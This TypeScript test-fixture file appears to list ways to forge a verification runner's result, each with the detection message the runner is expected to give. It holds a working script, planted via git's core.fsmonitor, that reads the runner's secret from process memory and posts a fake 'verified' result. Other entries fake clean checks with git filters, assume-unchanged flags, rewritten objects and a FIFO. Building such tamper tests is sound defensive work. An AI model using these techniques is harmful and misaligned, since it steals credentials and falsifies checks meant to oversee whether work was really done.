/** By repositories and files that git reads. */
import { type Forgery, wrong } from './forgery.ts';

/**
 * A program for git's `core.fsmonitor`: it takes the runner's secret out of its memory, and puts a result before the
 * runner does.
 */
const thief = `#!/usr/bin/env node
const fs = require('node:fs'), http = require('node:http');
const request = (method, path, secret, body) => new Promise((done) => {
  const headers = { authorization: 'Bearer ' + secret };
  const q = http.request({ socketPath: '/run/gateway/gw.sock', method, path, headers }, (r) => {
    let text = '';
    r.on('data', (d) => (text += d)).on('end', () => done({ status: r.statusCode, text }));
  });
  q.on('error', () => done({ status: 0, text: '' })).end(body);
});
const secretOf = (pid) => {
  const mem = fs.openSync('/proc/' + pid + '/mem', 'r');
  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'latin1').split('\\n')) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
    if (from === undefined) continue;
    const bytes = Buffer.alloc(Math.min(parseInt(to, 16) - parseInt(from, 16), 64 << 20));
    try { fs.readSync(mem, bytes, 0, bytes.length, parseInt(from, 16)); } catch { continue; }
    const found = /"runnerSecret":"([0-9a-f]{64})"/.exec(bytes.toString('latin1'));
    if (found) return found[1];
  }
};
(async () => {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
    try {
      if (!fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').includes('runner.cjs')) continue;
      const secret = secretOf(pid);
      const { phaseKey } = JSON.parse((await request('GET', '/phase', secret)).text);
      const test = { name: 'test', command: 'npm test', exitCode: 0, timedOut: false, ms: 1, output: '' };
      const result = { phaseKey, outcome: 'verified', changeSet: false, commands: [test], versions: {}, timings: {} };
      await request('PUT', '/artifacts/result.json', secret, JSON.stringify(result));
    } catch {}
  }
})();
`;

/** The commit that `plant` makes: git looks into a submodule only if it is at the commit of the index. */
export const plantedCommit = 'cdb6f5729853304abc87a11d7ceda7eb5f02fa55';

/** Makes a repository in a folder, whose configuration names a program. */
const plant = (folder: string): string => `
import { execSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync } from 'node:fs';
mkdirSync('${folder}', { recursive: true });
copyFileSync('thief.cjs', '${folder}/thief.cjs');
chmodSync('${folder}/thief.cjs', 0o755);
const git = (args) => execSync('git -c user.name=a -c user.email=a@b ' + args, { cwd: '${folder}', stdio: 'inherit', env: { ...process.env, GIT_AUTHOR_DATE: '@0 +0000', GIT_COMMITTER_DATE: '@0 +0000' } });
git('init -q');
git('commit -q --allow-empty -m x');
git('config core.fsmonitor /workspace/${folder}/thief.cjs');
`;

const setup = { setupCommand: 'node setup.mjs' };
const base = { 'setup.mjs': '' };
const fs = "import fs from 'node:fs'; import { execSync } from 'node:child_process';\n";
const licence = { 'the licence is as it was': 'git diff --exit-code HEAD -- LICENSE' };

export const byGit: Forgery[] = [
  {
    how: 'a repository in the place of a submodule names a program for git, which puts a result',
    base,
    submodules: { sub: plantedCommit },
    change: { 'add.mjs': wrong, 'thief.cjs': thief, 'setup.mjs': plant('sub') },
    sandbox: setup,
    named: /^test \(`npm test`\) exited with 1/,
  },
  {
    how: 'a repository in a new folder',
    base,
    change: { 'add.mjs': wrong, 'thief.cjs': thief, 'setup.mjs': plant('nested') },
    sandbox: setup,
    named: /^setup .* made a git repository in nested\./,
  },
  {
    how: 'a repository in a folder of the tree',
    base: { ...base, 'lib/a.txt': 'a' },
    change: { 'add.mjs': wrong, 'thief.cjs': thief, 'setup.mjs': plant('lib') },
    sandbox: setup,
    named: /^setup .* made lib\/thief\.cjs, made a git repository in lib\./,
  },
  {
    how: 'a filter that shows git the committed bytes of a file that setup replaced',
    base,
    change: {
      'add.mjs': wrong,
      '.gitattributes': '*.mjs filter=hide\n',
      'setup.mjs': `${fs} fs.writeFileSync('add.mjs', 'export const add = (a, b) => b + a;');
        execSync('git config filter.hide.clean "printf %s wrong"'); execSync('git config filter.hide.required true');`,
    },
    sandbox: setup,
    named: /^setup .* changed add\.mjs\./,
  },
  {
    how: 'the tests tell the repository of the work tree that a file is unchanged, for a criterion that asks it',
    base: { LICENSE: 'ours\n' },
    change: {
      LICENSE: 'theirs\n',
      'test.mjs':
        "import { execSync } from 'node:child_process'; execSync('git update-index --assume-unchanged LICENSE');",
    },
    criteria: licence,
    named: /^success: the licence is as it was .* exited with 1/,
  },
  {
    how: 'the tests give the repository of the work tree a program that shows differences',
    base: { LICENSE: 'ours\n' },
    change: {
      LICENSE: 'theirs\n',
      'test.mjs': `${fs} execSync('git config core.fsmonitor "touch LICENSE"'); execSync('git config core.worktree /tmp');
        fs.writeFileSync('.git/info/attributes', '* diff=x'); execSync('git config diff.x.command /bin/true');`,
    },
    criteria: licence,
    named: /^success: the licence is as it was .* exited with 1/,
  },
  {
    how: 'the tests give an object of the repository of the work tree another content, for a criterion that compares',
    base: { LICENSE: 'ours!!\n' },
    change: {
      LICENSE: 'theirs\n',
      'test.mjs': `${fs} import zlib from 'node:zlib';
        const id = execSync('git rev-parse HEAD:LICENSE', { encoding: 'utf8' }).trim();
        const file = '.git/objects/' + id.slice(0, 2) + '/' + id.slice(2);
        fs.rmSync(file);
        fs.writeFileSync(file, zlib.deflateSync(Buffer.from('blob 7\\0theirs\\n')));`,
    },
    criteria: licence,
    named: /^success: the licence is as it was .* exited with 1/,
  },
  {
    how: 'the tests leave a file in the folder of a submodule for the next command',
    base: {
      'check.mjs':
        "import fs from 'node:fs'; if (!fs.existsSync('sub/off.json')) { const { add } = await import('./add.mjs'); if (add(1, 2) !== 3) process.exit(1); }",
    },
    submodules: { sub: plantedCommit },
    change: { 'add.mjs': wrong, 'test.mjs': `${fs} fs.writeFileSync('sub/off.json', '{}');` },
    criteria: { 'it adds': 'node check.mjs' },
    named: /^test .* made sub\/off\.json\./,
  },
  {
    how: 'the tests replace the repository of the work tree by another one',
    base: { LICENSE: 'ours\n' },
    change: {
      LICENSE: 'theirs\n',
      'test.mjs': `${fs} fs.rmSync('.git', { recursive: true }); execSync('git init -q && git add -A && git -c user.name=a -c user.email=a@b commit -qm x');`,
    },
    criteria: licence,
    named: /^success: the licence is as it was .* exited with 1/,
  },
  {
    how: 'the tests put the base back',
    base: { LICENSE: 'ours\n' },
    change: { LICENSE: 'theirs\n', 'test.mjs': `${fs} execSync('git checkout -q HEAD -- LICENSE');` },
    criteria: licence,
    named: /^test .* changed LICENSE\./,
  },
  {
    how: 'a .gitignore of a command hides a file beside the files of the tree',
    base: { ...base, 'lib/a.txt': 'a' },
    change: {
      'add.mjs': wrong,
      'setup.mjs': `${fs} fs.writeFileSync('lib/.gitignore', '*\\n'); fs.writeFileSync('lib/config.json', '{}');`,
    },
    sandbox: setup,
    named: /^setup .* made lib\/\.gitignore\./,
  },
  {
    how: 'a pipe in the place of .gitignore holds git',
    base,
    change: { 'add.mjs': wrong, 'setup.mjs': `${fs} fs.mkdirSync('lib'); execSync('mkfifo lib/.gitignore');` },
    sandbox: setup,
    named: /^setup .* left what cannot be recorded in the work tree: lib\/\.gitignore: it is not a regular file/,
  },
];
